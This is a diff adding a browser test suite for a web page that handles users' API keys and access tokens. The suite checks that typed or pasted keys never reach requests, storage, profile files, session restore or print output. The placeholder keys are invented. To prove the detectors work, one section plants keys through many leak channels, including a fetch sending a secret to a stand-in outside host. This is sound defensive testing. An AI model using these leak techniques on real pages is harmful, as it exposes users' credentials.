@@ -1,0 +1,480 @@
+import { createHash } from 'node:crypto';
+import { mkdtempSync, rmSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import path from 'node:path';
+import type { Browser, BrowserContext, Locator, Page } from 'playwright-core';
+import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, inject, it, vi } from 'vitest';
+import { launchChromium, launchProfile } from '../support/chromium';
+import { listen, lookThrough, type Heard } from '../support/ears';
+import { readNetLog, type NetLog } from '../support/net-log';
+import { GUIDE, holdScripts, runScripts } from '../support/site';
+import { createTraceFinder, readFiles } from '../support/traces';
+
+const site = inject('site');
+
+/** Invented, of today's shapes, and unlike any other text. */
+const TYPED = {
+  'API key': 'Jq7VwZk3XbN9mHs5TyRg2LcPd',
+  'API secret': 'Hv3KxQz8WmJt6YbRn4PsLd9GfCk2TjXw7VqZy5BhNr1MgSpDcU',
+  'Access token': '998877665-Fw6XjQv9ZkTn3LbYh7RsGm4PdCx8HqJt2VyKzBnU',
+  'Access token secret': 'Rz5YqWx9KvHj3TbNm7LsPg2DfCk8XtVq4JyZhBn6RwUcE',
+} as const;
+type FieldName = keyof typeof TYPED;
+const FIELDS = Object.keys(TYPED) as FieldName[];
+
+/** A second set, for what is pasted, dropped, chosen as a file, or typed before the scripts. */
+const PASTED = {
+  'API key': 'Xd4MtGy8QkWz2VbHn6JrSf9Pc',
+  'API secret': 'Zk9XwQv2TjBm7NyRh4LsGd6PfCx3KtVq8JzWn5HbYr1DgSpMcE',
+  'Access token': '887766554-Tq2WzKv7XjNb5MyHr9LsGd3PfCt6QxJk8VwZnBhY',
+  'Access token secret': 'Vx6ZqJw2KtHb8TnRm4LsYg7DfPk3XcVq9WyNhBz5JrUdE',
+} as const satisfies Record<FieldName, string>;
+
+const ENV = `API_KEY=${PASTED['API key']}
+API_SECRET=${PASTED['API secret']}
+ACCESS_TOKEN=${PASTED['Access token']}
+ACCESS_TOKEN_SECRET=${PASTED['Access token secret']}
+`;
+const REPLY = `HTTP/2 200
+x-access-level: read-write
+
+{"data":{"id":"998877665","name":"Nina","username":"nina"}}`;
+
+// The number before the dash is the account's, which everybody may know, and the page tells it.
+const values = [...Object.values(TYPED), ...Object.values(PASTED)].map((value) => value.replace(/^\d+-/, ''));
+const findTrace = createTraceFinder(values);
+const tracesIn = (heard: readonly Heard[]) =>
+  heard.flatMap(({ channel, text }) => {
+    const trace = findTrace(text);
+    return trace === undefined ? [] : [`${channel}: ${trace}`];
+  });
+
+let page: Page;
+const box = (name: string) => page.getByRole('textbox', { name, exact: true });
+const button = (name: string) => page.getByRole('button', { name, exact: true });
+const pasteBox = () => box('Paste all four at once');
+const contents = () => Promise.all(FIELDS.map((name) => box(name).inputValue()));
+const clipboard = () => page.evaluate(() => navigator.clipboard.readText());
+const NOTHING = FIELDS.map(() => '');
+
+async function open(address: string): Promise<void> {
+  await page.goto(address);
+  await runScripts(page);
+}
+
+async function typeAll(): Promise<void> {
+  for (const name of FIELDS) {
+    await box(name).click();
+    await page.keyboard.type(TYPED[name]);
+  }
+}
+
+async function paste(target: Locator, text: string): Promise<void> {
+  await page.evaluate((copied) => navigator.clipboard.writeText(copied), text);
+  await target.focus();
+  await page.keyboard.press('ControlOrMeta+a');
+  await page.keyboard.press('ControlOrMeta+v');
+}
+
+async function drop(target: Locator, text: string): Promise<void> {
+  const transfer = await page.evaluateHandle((dropped) => {
+    const made = new DataTransfer();
+    made.items.add(new File([dropped], '.env'));
+    return made;
+  }, text);
+  await target.dispatchEvent('drop', { dataTransfer: transfer });
+}
+
+describe('a visit with keys', () => {
+  const folder = mkdtempSync(path.join(tmpdir(), 'guide-visit-'));
+  const profile = path.join(folder, 'profile');
+  const netLogFile = path.join(folder, 'net.json');
+  const found: Heard[] = [];
+  const copied: Record<string, string> = {};
+  let heard: Heard[];
+  let netLog: NetLog;
+
+  beforeAll(async () => {
+    const context = await launchProfile(profile, { netLog: netLogFile });
+    heard = await listen(context);
+    await context.grantPermissions(['clipboard-read', 'clipboard-write']);
+    page = await context.newPage();
+    page.on('dialog', (dialog) => void dialog.accept());
+    await visit(context);
+    await context.close();
+    netLog = readNetLog(netLogFile);
+  });
+  afterAll(() => rmSync(folder, { recursive: true, force: true }));
+
+  /** Everything that a person may do with keys here; looks through the page at every station. */
+  async function visit(context: BrowserContext) {
+    const look = async () => found.push(...(await lookThrough(page)));
+
+    const release = await holdScripts(context);
+    await page.goto(`${site}check`, { waitUntil: 'domcontentloaded' });
+    await box('API key').fill(PASTED['API key']);
+    await pasteBox().fill(`API secret: ${PASTED['API secret']}`);
+    await look();
+    release();
+    await runScripts(page);
+    await vi.waitUntil(async () => (await box('API secret').inputValue()) === PASTED['API secret']);
+    await look();
+
+    await open(site + GUIDE);
+    await page.evaluate(() => navigator.clipboard.writeText('nothing of interest'));
+    await typeAll();
+    for (const name of FIELDS) await button(`Show ${name}`).click();
+    await look();
+    await button('Clear all').click();
+    await button('Undo').click();
+    copied['nothing'] = await clipboard();
+
+    await button('Copy API key').click();
+    await page.getByText('API key copied.').waitFor();
+    copied['API key'] = await clipboard();
+    await button('Copy command').click();
+    await page.getByText('Copied. Paste it into the terminal').waitFor();
+    copied['command'] = await clipboard();
+    await button('Show the command').click();
+    await look();
+    for (const reply of [REPLY, `strange ${TYPED['API secret'].slice(0, 30)}`, copied['command'], '<b>hi</b>']) {
+      await paste(box('Paste the reply'), reply);
+      await page.locator('[data-diagnosis]').waitFor();
+      await look();
+    }
+
+    await page.getByRole('link', { name: 'How it keeps your keys' }).click();
+    await page.waitForURL('**/how-this-page-keeps-your-keys');
+    await look();
+    await page.goBack();
+    await box('API key').waitFor();
+
+    await box('API key').fill(`${TYPED['API secret']} `);
+    await box('API secret').fill(`“${TYPED['API key'].slice(0, 12)}й${TYPED['API key'].slice(12)}”`);
+    await look();
+    await paste(pasteBox(), ENV);
+    await page.getByText('Found and filled in').waitFor();
+    await look();
+    await paste(pasteBox(), `${PASTED['Access token secret'].slice(0, 41)}\nBEARER_TOKEN=${PASTED['API secret']}`);
+    await look();
+    await drop(pasteBox(), ENV);
+    await page.getByLabel('Choose a text file').setInputFiles({
+      name: 'keys.env',
+      mimeType: 'text/plain',
+      buffer: Buffer.from(ENV),
+    });
+    await vi.waitUntil(async () => String(await contents()) === String(Object.values(PASTED)));
+    await look();
+    await page.reload();
+    await look();
+  }
+
+  it('tells them to nothing that can be heard', () => {
+    expect(tracesIn(heard)).toEqual([]);
+    const channels = new Set(heard.map(({ channel }) => channel));
+    expect([...channels]).toEqual(expect.arrayContaining(['request', 'address', 'markup', 'pushState', 'getItem']));
+  });
+
+  it('leaves them nowhere in the page, its storage and its address, nor in a saved copy', () => {
+    expect(tracesIn(found)).toEqual([]);
+  });
+
+  it('sends them nowhere, by the browser’s own record of its network', () => {
+    expect(findTrace(netLog.text)).toBeUndefined();
+  });
+
+  it('asks, looks up and connects to no other host', () => {
+    expect(netLog.hostsOfPages).toEqual([new URL(site).hostname]);
+  });
+
+  it('leaves them in no file of the browser: history, sessions, caches, storage, forms', () => {
+    const files = [...readFiles(profile)];
+    expect(files.map(([name]) => name)).toEqual(expect.arrayContaining(['Default/History', 'Default/Web Data']));
+    expect(files.filter(([, content]) => findTrace(content)).map(([name]) => name)).toEqual([]);
+  });
+
+  it('copies what the person copied, and neither secret with the command', () => {
+    expect(copied['nothing']).toBe('nothing of interest');
+    expect(copied['API key']).toBe(TYPED['API key']);
+    expect(copied['command']).toContain(TYPED['API key']);
+    expect(copied['command']).toContain(TYPED['Access token']);
+    const ofSecrets = createTraceFinder([TYPED['API secret'], TYPED['Access token secret'], ...Object.values(PASTED)]);
+    expect(ofSecrets(copied['command'] ?? '')).toBeUndefined();
+  });
+});
+
+describe('these tests would notice a key', () => {
+  let browser: Browser;
+  let heard: Heard[];
+  beforeAll(async () => {
+    browser = await launchChromium();
+    const context = await browser.newContext();
+    heard = await listen(context);
+    page = await context.newPage();
+    await page.goto(`${site}404.html`);
+  });
+  afterAll(() => browser.close());
+  afterEach(() => void heard.splice(0));
+
+  it.each<[string, (key: string) => unknown]>([
+    ['in a request', (key) => fetch(`/nowhere?${key}`)],
+    ['in a beacon', (key) => navigator.sendBeacon('/nowhere', key)],
+    ['in a WebSocket', (key) => new WebSocket(`ws://${location.host}/${key}`)],
+    ['in a storage that is emptied at once', (key) => (localStorage.setItem('a', key), localStorage.clear())],
+    ['in a session', (key) => sessionStorage.setItem('a', key)],
+    ['as base64', (key) => sessionStorage.setItem('a', btoa(`a key: ${key}`))],
+    ['backwards, in another case', (key) => sessionStorage.setItem('a', [...key.toLowerCase()].reverse().join(''))],
+    ['in part', (key) => sessionStorage.setItem('a', key.slice(7, 23))],
+    ['in a cookie', (key) => (document.cookie = `a=${key}`)],
+    ['in the address', (key) => history.replaceState(null, '', `#${key}`)],
+    ['in the state of the address', (key) => history.replaceState({ key }, '')],
+    ['in the title', (key) => (document.title = key)],
+    ['in the window’s name', (key) => (window.name = key)],
+    ['in the console', (key) => globalThis['console'].debug({ key })],
+    ['in an error', (key) => setTimeout(() => Promise.reject(new Error(key)))],
+    ['in a database', (key) => indexedDB.open(key)],
+    ['in a cache', (key) => caches.open(key)],
+    ['in a channel to other tabs', (key) => new BroadcastChannel('a').postMessage(key)],
+    ['in a picture’s address', (key) => (new Image().src = `/nowhere?${key}`)],
+    ['in text', (key) => document.body.append(key)],
+    ['in an attribute that is removed at once', (key) => document.body.toggleAttribute(`data-${key}`)],
+    [
+      'in the value attribute of a box',
+      (key) => document.body.append(Object.assign(document.createElement('input'), { defaultValue: key })),
+    ],
+  ])('%s', async (where, leak) => {
+    const key = createHash('sha256').update(where).digest('base64').replace(/\W/g, '');
+    const find = createTraceFinder([key]);
+    await page.evaluate(leak as (key: string) => void, key);
+    const isNoticed = async () => [...heard, ...(await lookThrough(page))].some(({ text }) => find(text) !== undefined);
+    await expect.poll(isNoticed).toBe(true);
+  });
+
+  it('in a file of the browser, and another host in its record', async () => {
+    const folder = mkdtempSync(path.join(tmpdir(), 'guide-visit-'));
+    const key = TYPED['API secret'];
+    const context = await launchProfile(path.join(folder, 'profile'), { netLog: path.join(folder, 'net.json') });
+    page = await context.newPage();
+    await page.goto(`${site}404.html`);
+    await page.evaluate((text) => localStorage.setItem('a', text), key);
+    await page.goto('about:blank');
+    await page.evaluate((text) => {
+      const link = Object.assign(document.createElement('link'), { rel: 'preconnect', href: 'https://early.invalid' });
+      document.head.append(link);
+      return fetch(`http://elsewhere.invalid/${text}`).catch(() => undefined);
+    }, key);
+    await context.close();
+    const netLog = readNetLog(path.join(folder, 'net.json'));
+    expect(netLog.hostsOfPages).toEqual(expect.arrayContaining(['early.invalid', 'elsewhere.invalid']));
+    expect(findTrace(netLog.text)).toBeDefined();
+    const files = [...readFiles(path.join(folder, 'profile'))];
+    expect(files.some(([, content]) => findTrace(content))).toBe(true);
+    rmSync(folder, { recursive: true });
+  });
+});
+
+describe('with the network cut after the scripts came', () => {
+  it('all of the check and of the test’s making works', async () => {
+    const browser = await launchChromium();
+    const context = await browser.newContext({ permissions: ['clipboard-read', 'clipboard-write'] });
+    page = await context.newPage();
+    await open(site + GUIDE);
+    await page.waitForLoadState('networkidle');
+    await context.setOffline(true);
+    const asked: string[] = [];
+    context.on('request', (request) => asked.push(request.url()));
+
+    await typeAll();
+    await button('Copy command').click();
+    expect(await clipboard()).toContain('oauth_signature');
+    await paste(box('Paste the reply'), REPLY);
+    await page.locator('[data-diagnosis="works"]').waitFor();
+    await paste(pasteBox(), ENV);
+    await expect.poll(contents).toEqual(Object.values(PASTED));
+    await button('Copy API secret').click();
+    await page.getByText('API secret copied.').waitFor();
+    await button('Clear all').click();
+    expect(await contents()).toEqual(NOTHING);
+    // Pictures that come into view, and pages whose link is under the pointer.
+    expect(asked.filter((address) => !/^http:[/\w.:]+\/(?:img|assets)\/[\w./-]+$/.test(address))).toEqual([]);
+    await browser.close();
+  });
+});
+
+describe('no key comes back', () => {
+  let browser: Browser;
+  let context: BrowserContext;
+  beforeAll(async () => {
+    browser = await launchChromium({ keepsPages: true });
+  });
+  afterAll(() => browser.close());
+  beforeEach(async () => {
+    context = await browser.newContext();
+    page = await context.newPage();
+    page.on('dialog', (dialog) => void dialog.accept());
+  });
+  afterEach(() => context.close());
+
+  /** The tab's history, without waiting for a load: the browser may bring the page back as it was. */
+  async function leaveAndGoBack() {
+    await page.evaluate(() => {
+      addEventListener('pageshow', ({ persisted }) => Object.assign(window, { persisted }));
+    });
+    await page.goto(`${site}404`);
+    await page.evaluate(() => history.back());
+    await page.waitForURL(`${site}${GUIDE}`, { waitUntil: 'commit' });
+    await box('API key').waitFor();
+  }
+
+  it('by going back to the page that the browser kept', async () => {
+    await open(site + GUIDE);
+    await typeAll();
+    await page.getByRole('textbox', { name: 'Paste the reply' }).fill(`oauth_token="${TYPED['Access token']}"`);
+    await pasteBox().click();
+    await page.keyboard.type(PASTED['API secret']);
+    await leaveAndGoBack();
+    await page.waitForFunction(() => 'persisted' in window);
+    expect(await page.evaluate(() => (window as { persisted?: boolean }).persisted)).toBe(true);
+    expect([...(await contents()), await pasteBox().inputValue()]).toEqual([...NOTHING, '']);
+    expect(await page.getByRole('textbox', { name: 'Paste the reply' }).count()).toBe(0);
+    await expect.poll(async () => tracesIn(await lookThrough(page))).toEqual([]);
+  });
+
+  it('by going back to a page whose scripts never ran', async () => {
+    await holdScripts(context);
+    await page.goto(site + GUIDE, { waitUntil: 'domcontentloaded' });
+    await box('API key').fill(TYPED['API key']);
+    await pasteBox().fill(PASTED['API secret']);
+    await leaveAndGoBack();
+    expect([...(await contents()), await pasteBox().inputValue()]).toEqual([...NOTHING, '']);
+  });
+
+  it.each<[string, () => Promise<unknown>]>([
+    ['reloading', () => page.reload()],
+    [
+      'duplicating the tab',
+      async () => {
+        const [copy] = await Promise.all([context.waitForEvent('page'), page.evaluate(() => void open(location.href))]);
+        page = copy;
+      },
+    ],
+  ])('by %s', async (_how, act) => {
+    await open(site + GUIDE);
+    await typeAll();
+    await act();
+    await box('API key').waitFor();
+    expect(await contents()).toEqual(NOTHING);
+    await runScripts(page);
+    expect(await contents()).toEqual(NOTHING);
+  });
+
+  it('by opening the tabs of last time', async () => {
+    const profile = mkdtempSync(path.join(tmpdir(), 'guide-restored-'));
+    const address = site + GUIDE;
+    const first = await launchProfile(profile);
+    page = await first.newPage();
+    await open(address);
+    await typeAll();
+    const isWritten = () =>
+      [...readFiles(profile)].some(([name, content]) => /Session_/.test(name) && content.includes(address));
+    await expect.poll(isWritten, { timeout: 20_000 }).toBe(true);
+    await first.close();
+
+    const second = await launchProfile(profile, { restores: true });
+    await expect.poll(() => second.pages().map((one) => one.url())).toContain(address);
+    page = second.pages().find((one) => one.url() === address) ?? expect.fail();
+    await box('API key').waitFor();
+    await runScripts(page);
+    expect(await contents()).toEqual(NOTHING);
+    await second.close();
+    rmSync(profile, { recursive: true, force: true });
+  });
+
+  it('by the browser’s own undo, once they are cleared', async () => {
+    await open(site + GUIDE);
+    await typeAll();
+    await button('Clear all').click();
+    for (const name of FIELDS) {
+      await box(name).focus();
+      await page.keyboard.press('ControlOrMeta+z');
+      await page.keyboard.press('ControlOrMeta+Shift+z');
+    }
+    expect(await contents()).toEqual(NOTHING);
+  });
+});
+
+describe('time', () => {
+  let browser: Browser;
+  beforeAll(async () => {
+    browser = await launchChromium();
+  });
+  afterAll(() => browser.close());
+  beforeEach(async () => {
+    page = await browser.newPage();
+    await page.clock.install();
+    return () => page.context().close();
+  });
+
+  it('an hour without use ends the keys, with a word, and nothing brings them back', async () => {
+    await open(site + GUIDE);
+    await typeAll();
+    await box('Paste the reply').fill(REPLY);
+    await page.clock.runFor('59:00');
+    expect(await contents()).toEqual(Object.values(TYPED));
+    await page.clock.runFor('01:00');
+    expect(await contents()).toEqual(NOTHING);
+    await page.getByText('Nothing was done here for an hour, so this page forgot your keys.').waitFor();
+    expect(await button('Undo').count()).toBe(0);
+    expect(await box('Paste the reply').count()).toBe(0);
+    await box('API key').focus();
+    await page.keyboard.press('ControlOrMeta+z');
+    expect(await contents()).toEqual(NOTHING);
+  });
+
+  it('a tab that is put aside masks them, and keeps them', async () => {
+    await open(site + GUIDE);
+    await typeAll();
+    await button('Show API key').click();
+    await page.evaluate(() => {
+      Object.defineProperty(document, 'visibilityState', { value: 'hidden', configurable: true });
+      document.dispatchEvent(new Event('visibilitychange'));
+    });
+    await page.clock.runFor('30:00');
+    expect(await button('Show API key').getAttribute('aria-pressed')).toBe('false');
+    expect(await contents()).toEqual(Object.values(TYPED));
+  });
+
+  it.each([
+    ['forward, and the keys are forgotten when the page is seen again', 3 * 3600, NOTHING],
+    ['back, and the keys stay for an hour at most', -3 * 3600, Object.values(TYPED)],
+  ])('a clock jumps %s', async (_how, seconds, expected) => {
+    await open(site + GUIDE);
+    await typeAll();
+    await page.clock.setSystemTime(Date.now() + seconds * 1000);
+    await page.evaluate(() => document.dispatchEvent(new Event('visibilitychange')));
+    expect(await contents()).toEqual(expected);
+    await page.clock.runFor('01:00:00');
+    expect(await contents()).toEqual(NOTHING);
+    await page.getByText('Nothing was done here for an hour').waitFor();
+    await box('API key').fill(TYPED['API key']);
+    expect(await box('API key').inputValue()).toBe(TYPED['API key']);
+  });
+});
+
+describe('on paper', () => {
+  it('no box with something in it is printed', async () => {
+    const browser = await launchChromium();
+    page = await browser.newPage();
+    await open(site + GUIDE);
+    await typeAll();
+    for (const name of FIELDS) await button(`Show ${name}`).click();
+    await button('Show the command').click();
+    await box('Paste the reply').fill(`oauth_token="${TYPED['Access token']}"`);
+    await page.emulateMedia({ media: 'print' });
+    const printed = await page
+      .getByRole('textbox')
+      .evaluateAll((all) => all.map((one) => (one as HTMLInputElement).value).filter(Boolean));
+    expect(printed).toEqual([]);
+    await browser.close();
+  });
+});
